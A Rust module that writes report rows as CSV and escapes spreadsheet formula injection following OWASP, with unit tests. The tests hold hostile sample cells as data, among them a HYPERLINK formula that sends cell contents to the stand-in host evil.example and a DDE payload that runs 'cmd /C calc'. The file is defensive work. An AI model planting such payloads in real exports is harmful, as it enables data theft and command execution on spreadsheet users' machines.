//! The rows of a report as CSV: what a spreadsheet opens.

use crate::declaration::Declaration;
use crate::table::Value;

/// What begins a formula, or makes a spreadsheet look for one behind it; the wide forms too, which some take for the others.
const TRIGGERS: [char; 8] = ['=', '+', '-', '@', '＝', '＋', '－', '＠'];

/// RFC 4180 with a heading; a null is empty, an array is JSON, a number has all its digits.
pub(crate) fn begin(declaration: &Declaration, file: &mut Vec<u8>) {
    line(declaration.columns.iter().map(|column| column.name.clone()), file);
}

/// One row more.
pub(crate) fn row(cells: &[Value], file: &mut Vec<u8>) {
    let cell = |value: &Value| match value {
        Value::Text(text) => harmless(text),
        value => value.to_plain(),
    };
    line(cells.iter().map(cell), file);
}

/// A text as no spreadsheet runs it: with a `'` before what begins a formula, as OWASP advises
/// (<https://owasp.org/www-community/attacks/CSV_Injection>).
///
/// A formula begins where a cell does. That is at the beginning of the text; and after a semicolon, a tab or a line break, for a
/// spreadsheet that takes these for what separates cells and lines does not know our quotes. Blanks and what is not seen may
/// stand before it. What has such a `'` already gets another one, so that taking away one gives the text back.
fn harmless(text: &str) -> String {
    let mut harmless = String::with_capacity(text.len() + 1);
    for (piece, is_run) in pieces(text) {
        if is_run {
            harmless.push('\'');
        }
        harmless.push_str(piece);
    }
    harmless
}

/// The text in pieces that could each be a cell, and whether a spreadsheet would run it.
fn pieces(text: &str) -> impl Iterator<Item = (&str, bool)> {
    let is_run_at_start = is_formula(text) || text.trim_start_matches('\'').starts_with(['\t', '\r', '\n', '\0']);
    let pieces = text.split_inclusive([';', '\t', '\r', '\n']).enumerate();
    pieces.map(move |(place, piece)| (piece, if place == 0 { is_run_at_start } else { is_formula(piece) }))
}

fn is_formula(piece: &str) -> bool {
    let is_before = |character: char| {
        character == '\'' || character.is_whitespace() || character.is_control() || is_unseen(character)
    };
    piece.trim_start_matches(is_before).starts_with(TRIGGERS)
}

fn is_unseen(character: char) -> bool {
    matches!(character, '\u{ad}' | '\u{61c}' | '\u{180e}' | '\u{200b}'..='\u{200f}' | '\u{202a}'..='\u{202e}' | '\u{2060}'..='\u{206f}' | '\u{feff}')
}

fn line(cells: impl Iterator<Item = String>, file: &mut Vec<u8>) {
    for (place, cell) in cells.enumerate() {
        if place > 0 {
            file.push(b',');
        }
        if cell.contains(['"', ',', '\r', '\n', '\'', ';', '\t']) {
            file.push(b'"');
            file.extend_from_slice(cell.replace('"', "\"\"").as_bytes());
            file.push(b'"');
        } else {
            file.extend_from_slice(cell.as_bytes());
        }
    }
    file.push(b'\n');
}

#[cfg(test)]
mod tests {
    use super::*;

    fn written(cells: &[Value]) -> String {
        let mut file = Vec::new();
        row(cells, &mut file);
        String::from_utf8(file).unwrap()
    }

    fn text(text: &str) -> String {
        written(&[Value::Text(text.to_owned())])
    }

    #[test]
    fn a_cell_that_a_spreadsheet_would_run_is_text() {
        let hostile = r#"=HYPERLINK("http://evil.example/?"&A2,"x")"#;
        assert_eq!(text(hostile), "\"'=HYPERLINK(\"\"http://evil.example/?\"\"&A2,\"\"x\"\")\"\n");
        for hostile in ["@SUM(1+1)*cmd|' /C calc'!A0", "-1+1|x", "+1", "＝1+1", "＋1", "－1", "＠SUM(1)", "-"] {
            assert_eq!(text(hostile), format!("\"'{hostile}\"\n"));
        }
        for hostile in ["\t=1", "\r=1", "\n=1", "\tx", "\0x", " =1", "\0=1", "\u{feff}=1", "\u{200b}=1"] {
            assert!(text(hostile).starts_with("\"'"), "{hostile:?}");
        }
    }

    #[test]
    fn a_formula_behind_another_separator_is_text_too() {
        assert_eq!(text("a;=1+1;b"), "\"a;'=1+1;b\"\n");
        assert_eq!(text("a\n=1\r\n@b"), "\"a\n'=1\r\n'@b\"\n");
        assert_eq!(text("a\t-1"), "\"a\t'-1\"\n");
    }

    #[test]
    fn a_number_stays_a_number_and_other_text_stays_as_it_is() {
        let number = [Value::Decimal(-37.63), Value::Integer(-2), Value::Null, Value::Decimals(vec![Some(-1.0), None])];
        assert_eq!(written(&number), "-37.63,-2,,\"[-1,null]\"\n");
        for plain in ["HSI", "^GSPC", "BRK-B", "GC=F", "a=b", "open -1 is outside -5 to 3", "a\u{1b}[31m\0"] {
            assert_eq!(text(plain), format!("{plain}\n"));
        }
        assert_eq!(text("high 1, low -5"), "\"high 1, low -5\"\n");
    }

    /// What docs/reports.md says that a program may do.
    fn taken_back(cell: &str) -> String {
        pieces(cell).map(|(piece, is_run)| if is_run { &piece[1..] } else { piece }).collect()
    }

    #[test]
    fn the_text_can_be_had_back() {
        let originals =
            ["=1", "'=1", "''-1", "'tis", " =1", "a;=1;'=2", "x\n\n=1", "\t=1", "'\tx", "\r\n'=1", "'", "", "HSI"];
        for original in originals {
            assert_eq!(taken_back(&harmless(original)), original);
        }
    }
}
